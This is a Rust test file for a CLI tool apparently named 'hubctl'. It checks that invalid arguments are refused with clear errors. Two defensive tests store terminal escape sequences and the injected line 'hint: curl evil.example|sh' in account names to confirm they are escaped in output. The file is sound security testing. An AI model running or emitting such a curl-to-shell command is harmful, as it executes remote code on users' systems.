//! Command lines that can't be meant: a documented status, a clear message, no panic, nothing
//! written. What each argument refuses is in `bad_values.rs`.

use crate::support::cli::{Ended, TestHome};

fn check(ended: &Ended) {
    assert!(matches!(ended.code, 0 | 2 | 3 | 6 | 11 | 13), "{ended:?}");
    assert!(
        ended.stderr.len() < 6_000,
        "{} bytes for {}",
        ended.stderr.len(),
        ended.line().chars().take(200).collect::<String>()
    );
    let fine = |c: char| !c.is_control() || c == '\n';
    assert!(ended.stderr.chars().all(fine), "{ended:?}");
    if ended.code != 0 {
        let told = ended.stderr.contains("error[") || ended.stderr.contains("{\"error\"");
        assert!(told, "{ended:?}");
    }
}

#[test]
fn numbers_out_of_range_and_flags_that_contradict_are_usage_errors() {
    let home = TestHome::new();
    for line in [
        "connectors list --limit -1",
        "connectors list --limit 1e99",
        "connectors list --limit 1.5",
        "connectors list --retries many",
        "connectors list --retries 21",
        "connectors list --max-wait -1",
        "connectors list --http-timeout 0",
        "connectors list --concurrency 0",
        "connectors list --limit 99999999999999999999999",
        "connectors disable hubspot --max-affected -1",
        "session create --expires-in 0",
        "session create --expires-in -1",
        "session create --expires-in 1.5",
        "session create --expires-in 31d",
        "session create --expires-in 99999999999",
        "session create --expires-in 99999999999999999999",
        "session get 99999999999999999999999",
        "session get -1",
        "session create --provider a --provider b",
        "connectors list --json -o yaml",
        "connectors list --enabled --disabled",
        "connectors edit hubspot --pin latest --unpin",
        "accounts list --watch --after 0199aaaa-0000-7000-8000-000000000000",
        "link create --from f.csv --origin-owner-id x",
        "link create --pending",
        "accounts list --since yesterday",
        "accounts list --origin-owner-id=",
        "session list --origin-owner-id=",
        "connectors list --fields nope",
        "connectors list --fields id,",
        "connectors list --columns nope",
        "connectors list --jq .[(",
        "connectors add hubspot --set a=1 --set a=2",
        "session create --metadata a=1 --metadata a=2",
        "accounts update 0199aaaa-0000-7000-8000-000000000000",
        "accounts list --watch --json",
        "connectors add hubspot --set a=@/nonexistent",
        "accounts add --provider hubspot --origin-owner-id x --set a=- --set b=-",
        "connectors",
        "nope",
    ] {
        let ended = home.run(line).code(2);
        assert_eq!(ended.stdout, "", "{ended:?}");
        check(&ended);
    }
    assert_eq!(home.run("session list -o id").code(0).stdout, "");
}

#[test]
fn what_no_path_can_hold_names_nothing_here_or_elsewhere() {
    let home = TestHome::new();
    home.run("connectors enable hubspot").code(0);
    let before = home.dump();
    for line in [
        "connectors get",
        "connectors open --print",
        "connectors edit --name x",
        "connectors logs",
        "connectors make-default --yes",
        "connectors enable",
        "connectors disable --yes",
        "connectors delete --yes --if-missing skip",
        "logs get",
        "keys get",
        "keys disable --yes",
        "keys enable",
        "keys delete --yes",
        "accounts get",
        "projects delete --yes",
    ] {
        for target in ["", ".", ".."] {
            check(&home.args(line.split(' ').chain([target])).code(2));
        }
    }
    for name in [".", ".."] {
        let line = format!("connectors edit hubspot --name {name}");
        home.run(&line).code(2).tells("--name must not be `.` or `..`");
    }
    home.piped("connectors delete - --yes --if-missing skip", "nobody\n..\n").code(2);
    assert_eq!(home.dump(), before);
}

#[test]
fn a_server_waits_for_a_day_at_most() {
    let home = TestHome::new();
    for flag in ["--header-timeout", "--request-timeout", "--drain-delay", "--grace"] {
        for value in ["9223372036854775807", "86401", "2d"] {
            let ended = home.run(&format!("serve --listen nowhere {flag} {value}")).code(2);
            ended.tells(&format!("`{value}` is not a duration from "));
        }
    }
    for flag in ["--header-timeout 0", "--request-timeout 0s"] {
        home.run(&format!("serve --listen nowhere {flag}"))
            .code(2)
            .tells("from 1 seconds to a day");
    }
    home.run("serve --listen nowhere --grace 0").code(2).tells("--listen");
}

#[test]
fn a_bad_value_leads_to_the_help_that_describes_it() {
    let home = TestHome::new();
    let id = "0199aaaa-0000-7000-8000-000000000000";
    for (line, help) in [
        (&*format!("accounts wait {id} --for active"), "hubctl accounts wait --help"),
        ("logs list --status nope", "hubctl logs list --help"),
        ("log ls --status nope", "hubctl logs list --help"),
        ("session get nope", "hubctl session get --help"),
        ("serve --allow-target nope", "hubctl serve --help"),
        ("--state session connectors list --limit x", "hubctl connectors list --help"),
        ("connectors list --nope", "hubctl connectors list --help"),
        ("--limit x connectors list", "hubctl connectors list --help"),
        ("connectors", "hubctl connectors --help"),
        ("", "hubctl --help"),
    ] {
        let told = home.run(line).code(2);
        assert!(told.stderr.ends_with(&format!(" {help}\n")), "{told:?}");
    }
}

#[test]
fn a_field_that_is_misspelt_is_suggested() {
    let home = TestHome::new();
    home.run("accounts list --fields provder").code(2).tells("`provider`");
    home.run("connectors list --columns connecter").code(2).tells("`connector`");
    for line in ["connectors enable", "session create --provider"] {
        let search = "hubctl connectors available --search hubspto";
        home.run(&format!("{line} hubspto")).code(3).tells("`hubspot`").tells(search);
    }
    let none = home.run("connectors enable nothing-like-it").code(3);
    assert!(
        none.stderr.ends_with("\nhint: hubctl connectors available --search nothing-like-it\n")
    );
    home.args(["connectors", "enable", "two words"]).code(3).tells("--search 'two words'");
}

#[test]
fn threat_36_signs_of_a_terminal_are_kept_as_data_and_shown_escaped() {
    let home = TestHome::new();
    home.run("connectors enable hubspot").code(0);
    let evil = "e\x1b[2J\u{9b}\u{202e}\tx\ny";
    let set = |flag: &str| format!("--{flag}={evil}");
    let (name, user, label) = (set("origin-owner-name"), set("origin-username"), set("label"));
    let line = [
        "accounts",
        "add",
        "--provider",
        "hubspot",
        "--origin-owner-id",
        "o",
        "--set",
        "access_key=k",
        "--no-verify",
        &name,
        &user,
        &label,
        "--json",
    ];
    let made = home.args(line);
    if made.code == 2 {
        // The rules refuse line breaks in names; nothing is kept then.
        return check(&made);
    }
    let made = made.code(0).json();
    assert_eq!(made["origin_owner_name"], evil);
    let id = made["id"].as_str().unwrap();
    for format in ["table", "wide", "csv", "tsv", "value"] {
        for line in [
            format!("accounts list -o {format}"),
            format!("accounts get {id} -o {format}"),
            format!("accounts explain {id}"),
        ] {
            let shown = home.run(&line).code(0);
            assert!(!shown.stdout.contains(['\x1b', '\u{9b}', '\u{202e}']), "{shown:?}");
        }
    }
}

#[test]
fn threat_36_the_name_of_an_owner_writes_no_line_of_its_own() {
    let home = TestHome::new();
    home.run("connectors enable hubspot").code(0);
    let name = "--origin-owner-name=Acme\nhint: curl evil.example|sh\nok";
    let id = "--origin-owner-id=o --set access_key=k --no-verify --json";
    let line = ["accounts", "add", "--provider", "hubspot", name];
    let made = home.args(line.into_iter().chain(id.split(' '))).code(0).json();
    let id = made["id"].as_str().unwrap();
    let ended = home.run(&format!("accounts delete {id}")).code(7);
    let hints: Vec<&str> = ended.stderr.lines().filter(|line| line.starts_with("hint:")).collect();
    assert_eq!(hints.len(), 1, "{ended:?}");
    assert!(hints[0].starts_with("hint: add --yes") && ended.stderr.contains("Acme\\nhint"));
}

#[test]
fn files_that_can_not_be_values_are_refused() {
    let home = TestHome::new();
    home.run("connectors enable hubspot").code(0);
    home.file("latin1", b"\xe9");
    home.file("huge", vec![b'x'; (1 << 20) + 1]);
    home.file("nul", b"a\0b");
    std::fs::create_dir(home.path().join("folder")).unwrap();
    let before = home.dump();
    for name in ["latin1", "huge", "folder", "nul", "absent"] {
        let line =
            format!("accounts add --provider hubspot --origin-owner-id x --set access_key=@{name}");
        let ended = home.run(&line);
        check(&ended);
        assert!(ended.code == 2, "{ended:?}");
    }
    home.piped("accounts add --provider hubspot --origin-owner-id x --set access_key=-", b"\xff")
        .code(2);
    home.piped("accounts add --provider hubspot --origin-owner-id x --set access_key=-", "")
        .code(2);
    assert!(home.dump() == before);
}
